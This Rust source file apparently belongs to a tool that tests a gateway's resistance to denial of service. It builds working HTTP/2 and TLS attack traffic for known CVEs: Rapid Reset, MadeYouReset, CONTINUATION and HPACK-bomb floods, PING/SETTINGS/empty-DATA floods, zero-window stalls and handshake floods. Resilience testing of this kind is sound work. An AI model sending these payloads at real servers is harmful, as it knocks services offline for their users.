//! The attacks themselves: what each sends on one connection.

use clap::ValueEnum;

#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Attack {
    /// Requests that are reset at once (CVE-2023-44487)
    RapidReset,
    /// Requests that the gateway is made to reset (CVE-2025-8671)
    MadeYouReset,
    /// A header block without end (CVE-2024-27316)
    Continuation,
    /// A header block that stands for far more than it takes (CVE-2016-6581)
    HpackBomb,
    /// SETTINGS after SETTINGS (CVE-2019-9515)
    Settings,
    /// PING after PING (CVE-2019-9512)
    Ping,
    /// DATA without data (CVE-2019-9518)
    EmptyData,
    /// Requests for answers that no window lets through (CVE-2019-9517)
    ZeroWindow,
    /// Halves of TLS handshakes
    SlowHandshake,
    /// TLS handshakes that cost the gateway a key exchange and a signature, and the client nothing
    HandshakeFlood,
}

/// What one connection sends, and what it does then.
pub(crate) struct Bytes {
    pub(crate) wire: Vec<u8>,
    /// Frames of it that are the attack, or handshakes.
    pub(crate) frames: u64,
    pub(crate) then: Then,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Then {
    /// It reads until the gateway ends the connection.
    IsEnded,
    /// The same, many at once, as each may take a while.
    IsEndedInTime,
    /// It reads something and goes.
    Leaves,
}

impl Attack {
    /// Whether it is on the listener of TLS.
    pub(crate) fn is_on_tls(self) -> bool {
        matches!(self, Self::SlowHandshake | Self::HandshakeFlood)
    }

    pub(crate) fn name(self) -> String {
        self.to_possible_value().map_or_else(String::new, |value| value.get_name().to_owned())
    }

    pub(crate) fn bytes(self) -> Bytes {
        let head = |method: &str| request(method);
        let (mut bytes, mut frames, mut then) = (Vec::new(), 0, Then::IsEnded);
        if !self.is_on_tls() {
            bytes.extend(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
            // A window of nothing for what is to hang.
            let window: &[u8] = if self == Self::ZeroWindow { &[0, 4, 0, 0, 0, 0] } else { &[] };
            bytes.extend(frame(SETTINGS, 0, 0, window));
            bytes.extend(frame(SETTINGS, ACK, 0, &[]));
        }
        let mut add = |frame: Vec<u8>| {
            bytes.extend(frame);
            frames += 1;
        };
        match self {
            Self::RapidReset | Self::MadeYouReset => {
                for stream in (1..600).step_by(2) {
                    let is_rapid = self == Self::RapidReset;
                    let flags = END_HEADERS | if is_rapid { END_STREAM } else { 0 };
                    add(frame(HEADERS, flags, stream, &head(if is_rapid { "GET" } else { "POST" })));
                    let (kind, value) = if is_rapid { (RST_STREAM, 8_u32) } else { (WINDOW_UPDATE, 0) };
                    add(frame(kind, 0, stream, &value.to_be_bytes()));
                }
            }
            Self::Continuation => {
                add(frame(HEADERS, END_STREAM, 1, &head("GET")));
                for _ in 0..1000 {
                    add(frame(CONTINUATION, 0, 1, b"\0\x01x\x01y"));
                }
            }
            Self::HpackBomb => {
                // An entry of 4,000 bytes, and its index again and again.
                let entry = [&[0x40, 1, b'x', 127, 0x81, 0x1e][..], &[b'y'; 4000]].concat();
                add(frame(HEADERS, END_HEADERS | END_STREAM, 1, &[&head("GET")[..], &entry, &[0xbe; 12_000]].concat()));
            }
            Self::Settings => (0..300).for_each(|_| add(frame(SETTINGS, 0, 0, &[]))),
            Self::Ping => (0..1000).for_each(|_| add(frame(PING, 0, 0, &[0; 8]))),
            Self::EmptyData => {
                add(frame(HEADERS, END_HEADERS, 1, &head("POST")));
                (0..1000).for_each(|_| add(frame(DATA, 0, 1, &[])));
            }
            Self::ZeroWindow => {
                (1..200).step_by(2).for_each(|stream| {
                    add(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head("GET")));
                });
                then = Then::IsEndedInTime;
            }
            Self::SlowHandshake => {
                let hello = client_hello();
                add(hello.get(..hello.len() / 2).unwrap_or_default().to_vec());
                then = Then::IsEndedInTime;
            }
            Self::HandshakeFlood => {
                add(client_hello());
                then = Then::Leaves;
            }
        }
        Bytes { wire: bytes, frames, then }
    }
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header block of indexed fields, with `:authority: a`.
fn request(method: &str) -> Vec<u8> {
    vec![if method == "GET" { 0x82 } else { 0x83 }, 0x86, 0x84, 0x01, 1, b'a']
}

/// A record with a `ClientHello` of TLS 1.3 by X25519 (RFC 8446 section 4.1.2), whose key is any 32 bytes.
fn client_hello() -> Vec<u8> {
    let with_len = |body: &[u8]| [&(body.len() as u16).to_be_bytes()[..], body].concat();
    let extension = |kind: u16, body: &[u8]| [&kind.to_be_bytes()[..], &with_len(body)].concat();
    let share = [&[0, 0x1d][..], &with_len(&[9; 32])].concat();
    let extensions = [
        // The name, versions, groups, kinds of signatures, the key.
        extension(0, &with_len(&[&[0][..], &with_len(b"localhost")].concat())),
        extension(43, &[2, 3, 4]),
        extension(10, &with_len(&[0, 0x1d])),
        extension(13, &with_len(&[4, 3, 8, 4])),
        extension(51, &with_len(&share)),
    ]
    .concat();
    // Its version and random, no session, one cipher suite, no compression.
    let hello = [&[3, 3][..], &[7; 32], &[0], &with_len(&[0x13, 1]), &[1, 0], &with_len(&extensions)].concat();
    let message = [&[1, 0][..], &with_len(&hello)].concat();
    [&[22, 3, 1][..], &with_len(&message)].concat()
}
